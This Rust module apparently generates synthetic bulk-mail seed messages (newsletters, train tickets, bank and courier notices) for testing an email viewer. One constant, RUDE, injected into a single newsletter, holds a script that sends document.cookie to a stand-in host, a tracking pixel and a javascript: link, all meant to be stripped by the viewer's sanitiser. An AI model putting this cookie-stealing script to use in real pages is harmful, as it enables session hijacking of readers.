//! Bulk mail: newsletters, tickets, notices. One of them carries a tracking pixel and a script, as bad ones do.

use chrono::{DateTime, Utc};

use super::bodies::escape;
use super::calendar::At::{self, Back, Eve};
use super::calendar::local_date;
use super::directory::{Directory, stranger};
use super::facts::Facts;
use super::letters::{Post, authentication};
use super::words::Lang::En;
use crate::seed::SeedMessage;

const FAIR: &str = "Newsletter <news@feria-mueble.example>";
const TRAINS: &str = "Reservas <reservas@trenes.example>";
const WOOD: &str = "Boletín Madera y Diseño <boletin@madera-diseno.example>";
const NETWORK: &str = "Red Profesional <avisos@red-profesional.example>";
const BANK: &str = "Banco del Páramo <avisos@bancoparamo.example>";

/// Sender, salesperson, when, subject, text.
type Row = (&'static str, &'static str, At, &'static str, &'static str);

#[rustfmt::skip]
const ROWS: [Row; 26] = [
    (FAIR, "JP", Back(1, 7, 30), "The fair opens its doors", "Halls 4 to 9 are open from nine to seven. Your badge is waiting at the north gate."),
    (FAIR, "JP", Back(2, 7, 30), "List of exhibitors", "412 exhibitors from 31 countries: find them by hall, by product and by letter."),
    (FAIR, "JP", Back(3, 7, 30), "Programme of the first day", "Talks about circular materials, acoustics and the office after the office."),
    (FAIR, "JP", Back(5, 7, 30), "One week to go", "Book your parking place now; the car parks fill early."),
    (FAIR, "JP", Back(9, 7, 30), "Your badge is ready", "Download the badge and show it on your telephone."),
    (FAIR, "JP", Back(14, 7, 30), "Early-bird tickets end on Friday", "Until Friday the ticket costs 18 euros instead of 25."),
    (TRAINS, "AR", Eve(22, 10), "Your ticket for {thuday}", "Madrid 07:05 – Valladolid 08:02, coach 4, seat 7A. Please be at the platform ten minutes earlier."),
    (TRAINS, "AR", Back(3, 10, 15), "Your booking", "Thank you for your booking. The ticket follows by separate mail the day before you travel."),
    (TRAINS, "MV", Back(37, 19, 40), "Tu billete a Málaga", "Madrid 08:35 – Málaga 11:12, coche 6, plaza 3B."),
    (WOOD, "NI", Back(6, 6, 45), "Boletín 47: el precio del roble", "El roble europeo se estabiliza. Entrevista con tres carpinteros de la Rioja."),
    (WOOD, "NI", Back(16, 6, 45), "Boletín 45: acabados al agua", "Comparamos siete barnices al agua y contamos cuál aguanta el café."),
    (WOOD, "NI", Back(26, 6, 45), "Boletín 43: oficinas pequeñas", "Cinco proyectos de menos de cien metros cuadrados."),
    (WOOD, "NI", Back(36, 6, 45), "Boletín 41: sillas que duran", "Qué mirar en una silla antes de comprar doscientas."),
    (WOOD, "NI", Back(46, 6, 45), "Boletín 39: vuelta al cole", "Mobiliario escolar: normas, tallas y colores."),
    (WOOD, "NI", Back(66, 6, 45), "Boletín 36: especial verano", "Terrazas, sombra y madera que no teme al sol ☀️"),
    (WOOD, "NI", Back(86, 6, 45), "Boletín 32: cabinas acústicas", "Medimos el ruido de ocho cabinas con el mismo altavoz."),
    (WOOD, "NI", Back(106, 6, 45), "Boletín 28: madera certificada", "Las etiquetas, explicadas sin letra pequeña."),
    (WOOD, "NI", Back(126, 6, 45), "Boletín 24: ferias de la temporada", "Calendario de ferias del segundo semestre."),
    (NETWORK, "PS", Back(8, 20, 5), "Tienes 3 invitaciones pendientes", "Tres personas quieren conectar contigo."),
    (NETWORK, "PS", Back(43, 20, 5), "Tu perfil apareció en 11 búsquedas", "Mira quién te ha buscado esta semana."),
    (NETWORK, "RG", Back(92, 20, 5), "Felicita a un contacto", "Un contacto cumple cinco años en su empresa."),
    (BANK, "AR", Back(20, 5, 15), "Aviso de vencimiento", "Un recibo domiciliado vence en los próximos días. Consúltalo en tu área de clientes."),
    (BANK, "AR", Back(64, 5, 15), "Cambios en las condiciones del servicio", "Hemos actualizado las condiciones de la banca a distancia."),
    ("Ayuntamiento <no-reply@sede-electronica.example>", "DC", Back(58, 9, 5), "Notificación disponible", "Tiene una notificación disponible en la sede electrónica."),
    ("Mensajería Rauda <seguimiento@rauda.example>", "DC", Back(33, 17, 35), "Tu envío está en reparto", "El paquete llegará hoy entre las 9:00 y las 14:00."),
    ("Premios <premios@sorteo-gratis.example>", "RG", Back(78, 2, 22), "¡¡Enhorabuena!! Tienes un premio 🎁", "Pulsa aquí antes de que caduque."),
];

/// What a rude newsletter brings along; the viewer has to take all of it out.
const RUDE: &str = "<script>document.location='https://madera-diseno.example/t?c='+document.cookie</script>\n\
    <img src=\"https://track.madera-diseno.example/open.gif?u=ni&amp;n=47\" width=\"1\" height=\"1\" alt=\"\">\n\
    <a href=\"javascript:alert(1)\" onclick=\"alert(2)\">Darse de baja</a>\n";

/// Writes the bulk mail.
pub(super) fn write(now: DateTime<Utc>, people: &Directory, post: &mut Post) -> Vec<SeedMessage> {
    let facts = Facts::dated(En, local_date(now));
    ROWS.iter().map(|row| bulk_mail(row, &facts, now, people, post)).collect()
}

fn bulk_mail(
    row: &Row,
    facts: &Facts,
    now: DateTime<Utc>,
    people: &Directory,
    post: &mut Post,
) -> SeedMessage {
    let (from, to, at, subject, text) = *row;
    let from = stranger(from);
    let sent = at.moment(now);
    let domain = from.address.rsplit_once('@').map_or("", |(_, domain)| domain).to_owned();
    let id = post.message_id(&from.address, sent);
    SeedMessage {
        to: vec![people.writer(to).party],
        subject: Some(facts.fill(subject)),
        body_html: page(&facts.fill(text), &from.name, &domain, subject.starts_with("Boletín 47")),
        conversation: format!("bulk-{id}"),
        internet_message_id: Some(id),
        sent,
        received: sent + chrono::Duration::seconds(9),
        headers: vec![
            authentication(&from.address, "pass"),
            ("List-Unsubscribe".to_owned(), format!("<https://{domain}/baja>")),
            ("Precedence".to_owned(), "bulk".to_owned()),
        ],
        sender: Some(from.clone()),
        from: Some(from),
        ..SeedMessage::default()
    }
}

fn page(text: &str, name: &str, domain: &str, rude: bool) -> String {
    format!(
        "<html><body style=\"margin:0;background:#eee\">\n\
         <table width=\"600\" align=\"center\" style=\"background:#fff;font-family:Arial,sans-serif\">\n\
         <tr><td style=\"padding:16px;background:#1b7083;color:#fff\"><h1>{}</h1></td></tr>\n\
         <tr><td style=\"padding:24px\"><img src=\"https://img.{domain}/head.jpg\" width=\"552\" alt=\"\">\n<p>{}</p></td></tr>\n\
         <tr><td style=\"padding:16px;font-size:11px;color:#888\"><a href=\"https://{domain}/baja\">Unsubscribe</a></td></tr>\n\
         </table>\n{}</body></html>",
        escape(name),
        escape(text),
        if rude { RUDE } else { "" }
    )
}
